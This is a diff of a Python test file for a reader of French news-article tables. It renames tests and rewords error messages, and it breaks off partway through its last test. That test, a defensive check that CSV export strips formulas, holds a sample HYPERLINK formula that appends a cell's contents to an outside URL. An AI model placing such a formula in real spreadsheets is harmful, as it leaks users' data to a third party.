@@ -1,4 +1,4 @@
-"""Tables as French offices save them, and formats named rather than told by their ending."""
+"""Tables as French offices save them, and formats that are named instead of recognised."""
 
 import io
 import sys
@@ -21,13 +21,13 @@ def test_a_french_table_is_read_whatever_its_encoding_and_separator(
     path = tmp_path / "export.csv"
     path.write_bytes(TABLE.replace(";", separator).replace("\n", "\r\n").encode(encoding))
 
-    (found,) = read_articles(path)
+    (article,) = read_articles(path)
 
-    assert (found.title, found.text) == ("La 5G à Thiès", "« L’été » : 5 000 €")
-    assert found.labels == ("Téléphonie", "Fintech")
-    assert found.date.isoformat() == "2025-03-14"
-    assert found.section == "Articles"
-    assert found.meta == {}
+    assert (article.title, article.text) == ("La 5G à Thiès", "« L’été » : 5 000 €")
+    assert article.labels == ("Téléphonie", "Fintech")
+    assert article.date.isoformat() == "2025-03-14"
+    assert article.section == "Articles"
+    assert article.meta == {}
 
 
 @pytest.mark.parametrize(
@@ -41,22 +41,22 @@ def test_a_french_table_is_read_whatever_its_encoding_and_separator(
         "2025-03-14T08:00",
     ],
 )
-def test_a_day_is_read_as_french_tables_have_it(tmp_path: Path, day: str) -> None:
+def test_the_date_formats_of_french_tables_are_read(tmp_path: Path, day: str) -> None:
     path = tmp_path / "jours.csv"
     path.write_text(f"titre;date\nLa 5G à Thiès;{day}\n", encoding="utf-8")
 
     assert [a.date.isoformat() for a in read_articles(path)] == ["2025-03-14"]
 
 
-def test_a_row_of_broken_utf8_among_good_ones_is_a_fault_of_its_own(tmp_path: Path) -> None:
-    good = "".join(f"Thiès {n},été\n" for n in range(20)).encode()
+def test_only_the_row_with_broken_utf8_is_a_fault(tmp_path: Path) -> None:
+    valid_rows = "".join(f"Thiès {n},été\n" for n in range(20)).encode()
     path = tmp_path / "mixed.csv"
-    path.write_bytes(b"title,text\n" + good + b"Thi\xe8s,x\n")
+    path.write_bytes(b"title,text\n" + valid_rows + b"Thi\xe8s,x\n")
     faults: list[InputError] = []
 
-    found = list(read_articles(path, on_fault=faults.append))
+    articles = list(read_articles(path, on_fault=faults.append))
 
-    assert len(found) == 20
+    assert len(articles) == 20
     assert [(fault.line, fault.what) for fault in faults] == [
         (22, "Byte 0xe8 at position 3 is not UTF-8")
     ]
@@ -67,25 +67,25 @@ def test_plain_text_is_read_whatever_its_encoding(tmp_path: Path, encoding: str)
     path = tmp_path / "un.txt"
     path.write_bytes("L’été à Thiès\n\nLa fibre coûte 5 €.".encode(encoding))
 
-    (found,) = read_articles(path)
+    (article,) = read_articles(path)
 
-    assert (found.title, found.text) == ("L’été à Thiès", "La fibre coûte 5 €.")
+    assert (article.title, article.text) == ("L’été à Thiès", "La fibre coûte 5 €.")
 
 
-def test_a_format_that_is_named_outweighs_the_ending(tmp_path: Path) -> None:
+def test_a_named_format_takes_precedence_over_the_extension(tmp_path: Path) -> None:
     path = tmp_path / "export.dat"
     path.write_text(TABLE, encoding="utf-8")
 
-    with pytest.raises(InputError, match=r"Unknown format 'export.dat'"):
+    with pytest.raises(InputError, match=r"Unknown format of 'export.dat'"):
         list(read_articles(path))
     assert [a.title for a in read_articles(path, format="csv")] == ["La 5G à Thiès"]
-    with pytest.raises(InputError, match=r"Format 'excel': expected one of jsonl, csv"):
+    with pytest.raises(InputError, match=r"Unknown format 'excel': expected one of jsonl, csv"):
         list(read_articles(path, format="excel"))
     assert FORMAT_NAMES == ("jsonl", "csv", "text", "html", "feed", "parquet", "spip")
 
 
 @pytest.mark.parametrize(
-    ("piped", "title"),
+    ("content", "title"),
     [
         ('{"title": "En JSON", "text": "x"}', "En JSON"),
         (
@@ -99,15 +99,15 @@ def test_a_format_that_is_named_outweighs_the_ending(tmp_path: Path) -> None:
         ("\ufefftitle,text\nEn table,x\n", "En table"),
     ],
 )
-def test_standard_input_is_told_by_how_it_begins(
-    monkeypatch: pytest.MonkeyPatch, piped: str, title: str
+def test_the_format_of_standard_input_is_detected(
+    monkeypatch: pytest.MonkeyPatch, content: str, title: str
 ) -> None:
-    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(piped.encode())))
+    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(content.encode())))
 
     assert [a.title for a in read_articles("-")] == [title]
 
 
-def test_standard_input_takes_a_format_that_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_format_of_standard_input_can_be_named(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(TABLE.encode("cp1252"))))
 
     assert [a.title for a in read_articles("-", format="csv")] == ["La 5G à Thiès"]
@@ -117,8 +117,8 @@ def test_a_parquet_table_is_read_from_standard_input(
     monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
     write_articles([Article(id="1", title="En Parquet", text="x")], tmp_path / "a.parquet")
-    piped = io.BytesIO((tmp_path / "a.parquet").read_bytes())
-    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(piped))
+    content = io.BytesIO((tmp_path / "a.parquet").read_bytes())
+    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(content))
     write_articles([Article(id="2", title="Un fichier", text="x")], tmp_path / "b.parquet")
     (tmp_path / "b.parquet").rename(tmp_path / "-")
     monkeypatch.chdir(tmp_path)
@@ -126,7 +126,7 @@ def test_a_parquet_table_is_read_from_standard_input(
     assert [a.title for a in read_articles("-")] == ["En Parquet"]
 
 
-def test_standard_input_is_no_spip_site() -> None:
+def test_standard_input_is_not_a_spip_site() -> None:
     with pytest.raises(InputError, match="No config/connect.php in '-'"):
         list(read_articles("-", format="spip"))
 
@@ -140,26 +140,26 @@ def test_standard_input_is_no_spip_site() -> None:
         "Titre;Contenu\nLa 5G;x\n",
     ],
 )
-def test_what_excel_adds_to_a_table_is_passed_over(tmp_path: Path, table: str) -> None:
+def test_additions_by_excel_are_ignored(tmp_path: Path, table: str) -> None:
     path = tmp_path / "excel.csv"
     path.write_bytes(table.encode("cp1252"))
 
     assert [(a.title, a.text, a.meta) for a in read_articles(path)] == [("La 5G", "x", {})]
 
 
-def test_a_line_without_an_end_is_a_fault_and_the_next_is_read(tmp_path: Path) -> None:
+def test_an_overlong_line_is_a_fault_and_the_next_line_is_read(tmp_path: Path) -> None:
     path = tmp_path / "long.jsonl"
     path.write_bytes(b'{"text": "' + b"a" * 40_000_000 + b'"}\n{"text": "Yas ouvre la 5G"}\n')
     faults: list[InputError] = []
 
-    found = list(read_articles(path, on_fault=faults.append))
+    articles = list(read_articles(path, on_fault=faults.append))
 
-    assert [a.text for a in found] == ["Yas ouvre la 5G"]
-    assert [(f.line, f.what) for f in faults] == [(1, "A line of more than 30 MB")]
+    assert [a.text for a in articles] == ["Yas ouvre la 5G"]
+    assert [(f.line, f.what) for f in faults] == [(1, "Line longer than 30 MB")]
 
 
-def test_an_address_is_no_source_but_something_to_harvest() -> None:
-    with pytest.raises(InputError, match=r"is an address: .*corpus harvest"):
+def test_a_web_address_is_refused_with_a_hint_to_harvest_it() -> None:
+    with pytest.raises(InputError, match=r"is a web address: .*corpus harvest"):
         list(read_articles("https://www.osiris.sn/"))
 
 
@@ -168,7 +168,9 @@ def test_a_mistyped_url_does_not_show_its_password() -> None:
         list(read_articles("mysql:/lecteur:secret@base/osiris"))
 
 
-def test_a_corpus_written_as_csv_holds_no_formula_and_comes_back_as_it_was(tmp_path: Path) -> None:
+def test_a_corpus_written_as_csv_has_no_formulas_and_survives_the_round_trip(
+    tmp_path: Path,
+) -> None:
     formula = '=HYPERLINK("http://exemple.sn/?"&A1;"clic")'
     articles = [
         Article(
